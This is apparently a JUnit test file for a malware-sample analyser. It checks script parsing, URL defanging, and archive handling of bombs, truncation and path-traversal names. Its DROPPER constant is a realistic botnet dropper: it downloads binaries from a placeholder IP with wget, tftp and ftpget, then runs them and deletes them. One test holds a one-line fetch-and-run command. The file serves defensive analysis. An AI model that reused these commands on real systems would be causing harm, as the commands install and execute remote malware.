package teiten.sample;

import static org.assertj.core.api.Assertions.assertThat;

import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

final class ScriptsAndArchivesTest {
    private static final String DROPPER =
            """
            #!/bin/sh
            cd /tmp || cd /var/run
            wget http://192.0.2.9/bins/x.mips; chmod 777 x.mips; ./x.mips
            wget http://192.0.2.9/bins/x.arm7; chmod 777 x.arm7; ./x.arm7
            tftp -g -r x.sh4 192.0.2.9; busybox ftpget 192.0.2.9 x.x86
            rm -rf x.*
            """;

    private final SampleReader reader = new SampleReader(FamilyRules.builtIn());

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    private ScriptFacts script(String text) {
        return ((SampleFacts.Script) reader.read(bytes(text)).content()).facts();
    }

    private ArchiveFacts archive(byte[] bytes) {
        return ((SampleFacts.Archive) reader.read(bytes).content()).facts();
    }

    @Test
    void a_dropper_tells_what_it_fetches_in_which_order_and_with_which_tools() {
        ScriptFacts facts = script(DROPPER);
        assertThat(facts.interpreter().value()).isEqualTo("/bin/sh");
        assertThat(facts.lines()).isEqualTo(6);
        assertThat(facts.urls())
                .extracting(Found::value)
                .containsExactly(
                        "hxxp://192[.]0[.]2[.]9/bins/x.mips", "hxxp://192[.]0[.]2[.]9/bins/x.arm7");
        assertThat(facts.architectures())
                .extracting(Found::value)
                .containsExactly("mips (MIPS)", "arm7 (ARM)", "sh4 (SuperH)", "x86 (x86)");
        assertThat(facts.tools())
                .extracting(Found::value)
                .containsExactly("sh", "cd", "wget", "chmod", "tftp", "busybox", "ftpget", "rm");
    }

    @Test
    void a_one_line_command_without_a_shebang_is_a_script_and_prose_is_not() {
        assertThat(reader.read(bytes("cd /tmp; wget http://192.0.2.1/a; sh a")).content().kind())
                .isEqualTo("script");
        assertThat(reader.read(bytes("Dear reader, this is a letter.\nYours, A.")).content().kind())
                .isEqualTo("other");
    }

    private static byte[] zip(List<String> names, byte[] content) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (String name : names) {
                zip.putNextEntry(new ZipEntry(name));
                zip.write(content);
                zip.closeEntry();
            }
        }
        return out.toByteArray();
    }

    private static byte[] gzip(byte[] content) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (OutputStream gzip = new GZIPOutputStream(out)) {
            gzip.write(content);
        }
        return out.toByteArray();
    }

    private static byte[] tar(String name, byte[] content) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (TarArchiveOutputStream tar = new TarArchiveOutputStream(out)) {
            TarArchiveEntry entry = new TarArchiveEntry(name);
            entry.setSize(content.length);
            tar.putArchiveEntry(entry);
            tar.write(content);
            tar.closeArchiveEntry();
        }
        return out.toByteArray();
    }

    @Test
    void members_of_zip_and_tar_gz_are_named_by_content_and_cpu_and_never_become_paths()
            throws IOException {
        byte[] elf = BenignBot.hiding(List.of(), 0, 200);
        ArchiveFacts zip = archive(zip(List.of("../../etc/passwd\u001b[2J"), elf));
        assertThat(zip.members()).hasSize(1);
        ArchiveFacts.Member member = zip.members().get(0);
        assertThat(member.name()).isEqualTo("../../etc/passwd?[2J");
        assertThat(member.kind()).isEqualTo("elf");
        assertThat(member.cpu().value()).isEqualTo("ARM");
        assertThat(member.sha256().value()).isEqualTo(Hashes.sha256(elf));
        ArchiveFacts tgz = archive(gzip(tar("x/bot", elf)));
        assertThat(tgz.members())
                .extracting(ArchiveFacts.Member::kind)
                .containsExactly("archive", "elf");
    }

    @Test
    void a_bomb_is_unpacked_to_its_bound_and_said_to_be_cut() throws IOException {
        // given zeros beyond the bounds: once in gzip, once as zip members, once as too many
        // members; and a deep nest
        byte[] gzip = gzip(new byte[40 << 20]);
        ArchiveFacts one = archive(gzip);
        assertThat(one.cut()).isTrue();
        assertThat(one.unpackedBytes()).isLessThanOrEqualTo(ArchiveReader.MOST_BYTES);
        String[] names = new String[300];
        Arrays.setAll(names, i -> "m" + i);
        assertThat(archive(zip(List.of(names), bytes("x"))).members())
                .hasSize(ArchiveReader.MOST_MEMBERS);
        SampleFacts many = reader.read(zip(List.of(names).subList(0, 20), new byte[4 << 20]));
        assertThat(((SampleFacts.Archive) many.content()).facts().cut()).isTrue();
        assertThat(((SampleFacts.Archive) many.content()).facts().unpackedBytes())
                .isLessThanOrEqualTo(ArchiveReader.MOST_BYTES);
        assertThat(many.anomalies())
                .extracting(Anomaly::kind)
                .containsOnly(Anomaly.Kind.CUT_AT_BOUND);
        ArchiveFacts nested = archive(gzip(gzip(gzip(gzip(gzip(bytes("deep")))))));
        assertThat(nested.members()).hasSize(3);
    }

    @Test
    void an_archive_cut_at_any_byte_is_an_anomaly_and_no_exception() throws IOException {
        byte[] zip = zip(List.of("a", "b"), bytes(DROPPER));
        byte[] tgz = gzip(tar("a", bytes(DROPPER)));
        for (byte[] whole : List.of(zip, tgz)) {
            for (int length = 0; length < whole.length; length++) {
                assertThat(reader.read(Arrays.copyOf(whole, length)).size()).isEqualTo(length);
            }
        }
    }
}
